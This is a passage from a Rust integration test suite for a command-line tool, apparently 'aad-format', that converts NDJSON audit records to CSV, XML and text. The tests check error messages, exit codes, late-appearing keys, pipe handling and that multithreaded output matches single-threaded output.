        format(&["-t", "csv", "-f", "a.b"], input.as_str()).assert_code(0);
    }
    // Arrays are leaves when flattening: any depth is one compact JSON cell.
    let csv = format(&["-t", "csv"], arrays.as_str());
    csv.assert_code(0);
    let objects_csv = format(&["-t", "text"], objects.as_str());
    objects_csv.assert_code(6);
    assert!(
        objects_csv.stderr.contains("nested more than 128"),
        "{}",
        objects_csv.stderr
    );
}

#[test]
fn a_lone_surrogate_passes_through_and_is_an_error_where_decoded() {
    let input = "{\"a\":\"\\ud800\"}\n";
    assert_eq!(format(&["-t", "ndjson"], input).stdout_text(), input);
    for to in ["csv", "xml", "text"] {
        let out = format(&["-t", to], input);
        out.assert_code(6);
        assert_eq!(
            out.stderr,
            "aad-format: error: <stdin>:1:6: a string with a lone UTF-16 surrogate escape (\\ud800 to \\udfff) cannot be decoded\n",
            "--to {to}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// Columns found by read-ahead.

/// `n` records with key `a`, then records that add key `late`.
fn late_key_input(n: usize) -> String {
    let mut input = String::new();
    for i in 0..n {
        input.push_str(&format!("{{\"a\":{i}}}\n"));
    }
    input.push_str("{\"a\":-1,\"late\":{\"x\":1}}\n{\"late\":{\"x\":2}}\n");
    input
}

#[test]
fn a_key_first_seen_after_the_read_ahead_is_reported_once() {
    let out = format(&["-t", "csv"], late_key_input(1000));
    out.assert_code(0);
    assert_eq!(
        out.stderr,
        "aad-format: warning: <stdin>:1001: key 'late.x' first seen after the first 1000 records is left out (name the columns with --fields)\n"
    );
    let text = out.stdout_text();
    assert!(text.starts_with("a\n0\n1\n"));
    assert!(
        text.ends_with("\n999\n-1\n\"\"\n"),
        "{}",
        &text[text.len() - 20..]
    );
}

#[test]
fn a_key_within_the_read_ahead_is_a_column() {
    let out = format(&["-t", "csv"], late_key_input(998));
    out.assert_code(0).assert_quiet();
    assert!(out.stdout_text().starts_with("a,late.x\n0,\n"));
    assert!(out.stdout_text().ends_with("-1,1\n,2\n"));
}

#[test]
fn strict_fields_makes_a_late_key_an_error() {
    let out = format(&["-t", "csv", "--strict-fields"], late_key_input(1000));
    out.assert_code(6);
    assert!(
        out.stderr.starts_with(
            "aad-format: error: <stdin>:1001:21: key 'late.x' is not one of the columns"
        ),
        "{}",
        out.stderr
    );
}

// ---------------------------------------------------------------------------------------
// Inputs, options, the pipe.

#[test]
fn files_and_stdin_are_read_in_order_as_one_stream() {
    let dir = tempfile::tempdir().unwrap();
    let first = dir.path().join("1.ndjson");
    let last = dir.path().join("3.ndjson");
    std::fs::write(&first, "{\"n\":1}\n").unwrap();
    std::fs::write(&last, "\u{feff}{\"n\":3}").unwrap();
    let out = tool("aad-format")
        .args(["-t", "csv"])
        .arg(&first)
        .arg("-")
        .arg(&last)
        .stdin("{\"n\":2}\n")
        .run();
    out.assert_code(0).assert_quiet();
    assert_eq!(out.stdout_text(), "n\n1\n2\n3\n");
}

#[test]
fn a_missing_file_is_status_7() {
    let out = format(&["/nonexistent/audits.ndjson"], "");
    out.assert_code(7);
    assert!(
        out.stderr
            .starts_with("aad-format: error: cannot open '/nonexistent/audits.ndjson'"),
        "{}",
        out.stderr
    );
}

#[test]
fn usage_errors_are_status_2() {
    for args in [
        &["--to", "yaml"][..],
        &["--excel"],
        &["-t", "csv", "-f", "a..b"],
        &["-t", "xml", "--root", "1st"],
        &["--client-secret", "x"],
    ] {
        let out = format(args, "");
        out.assert_code(2);
        assert!(
            out.stderr.starts_with("aad-format: error: "),
            "{}",
            out.stderr
        );
        assert!(out.stdout.is_empty());
    }
}

#[test]
fn head_closing_the_pipe_ends_quietly_with_status_0() {
    let record = String::from_utf8(fixture()).unwrap();
    let input = record.repeat(5000); // tens of megabytes: far more than a pipe holds
    for to in ["json", "ndjson", "csv", "xml", "text"] {
        let mut child = tool("aad-format")
            .args(["-t", to])
            .stdin(input.clone())
            .spawn();
        let mut stdout = BufReader::new(child.stdout.take().unwrap());
        let mut first = String::new();
        stdout.read_line(&mut first).unwrap();
        assert!(!first.is_empty());
        drop(stdout);
        let status = child.wait().unwrap();
        let mut stderr = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut stderr)
            .unwrap();
        assert_eq!(status.code(), Some(0), "--to {to}: {stderr}");
        assert_eq!(stderr, "", "--to {to}");
    }
}

/// The fixture many times over (2.4 MB), with bad lines and big pages (which the
/// reading thread formats itself) here and there, so that many jobs are in flight.
fn big_input_with_bad_lines() -> Vec<u8> {
    let fixture = fixture();
    let record = fixture.split(|&b| b == b'\n').next().unwrap();
    let mut page = b"{\"value\":[".to_vec();
    for i in 0..300 {
        if i > 0 {
            page.push(b',');
        }
        page.extend_from_slice(record);
    }
    page.extend_from_slice(b"]}\n");
    let mut input = Vec::new();
    for i in 0..600 {
        input.extend_from_slice(&fixture);
        if i % 200 == 100 {
            input.extend_from_slice(b"{\"broken\": \n\xff\xfe\n");
        }
        if i % 150 == 75 {
            input.extend_from_slice(&page);
        }
    }
    input
}

#[test]
fn threads_write_exactly_what_one_thread_writes() {
    let input = big_input_with_bad_lines();
    for output in [
        &["-t", "json"][..],
        &["-t", "json", "--pretty"],
        &["-t", "ndjson"],
        &["-t", "ndjson", "-f", FIELDS],
        &["-t", "csv", "-f", FIELDS],
        &["-t", "tsv", "-f", FIELDS, "--excel"],
        &["-t", "xml"],
        &["-t", "xml", "-f", FIELDS],
        &["-t", "text"],
    ] {
        // Stopping at the first bad line, and skipping every bad line.
        for skip in [&[][..], &["--skip-invalid"]] {
            let args = |threads: &'static str| {
                let mut args = vec!["-j", threads];
                args.extend_from_slice(output);
                args.extend_from_slice(skip);
                args
            };
            let one = format(&args("1"), input.clone());
            let four = format(&args("4"), input.clone());
            assert_eq!(one.code(), 6, "{}", one.describe());
            assert_eq!(four.code(), one.code(), "{output:?} {skip:?}");
            assert_eq!(four.stderr, one.stderr, "{output:?} {skip:?}");
            assert!(
                four.stdout == one.stdout,
                "{output:?} {skip:?}: outputs differ"
            );
        }
    }
}

#[test]
fn records_reach_the_reader_before_the_input_ends() {
    // aad-fetch writes a page, then waits for the next one: its records must come out
    // now, not when 64 KiB have piled up.
    for threads in ["1", "2"] {
        first_record_comes_out_at_once(threads);
    }
}

fn first_record_comes_out_at_once(threads: &str) {
    let mut child = tool("aad-format")
        .args(["-j", threads, "-t", "csv", "-f", "id"])
        .command_mut()
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    std::io::Write::write_all(&mut stdin, b"{\"id\":\"first\"}\n").unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    stdout.read_line(&mut line).unwrap();
    assert_eq!(line, "id\n");
    line.clear();
    stdout.read_line(&mut line).unwrap();
    assert_eq!(line, "first\n");
    drop(stdin);
    assert!(child.wait().unwrap().success());
}
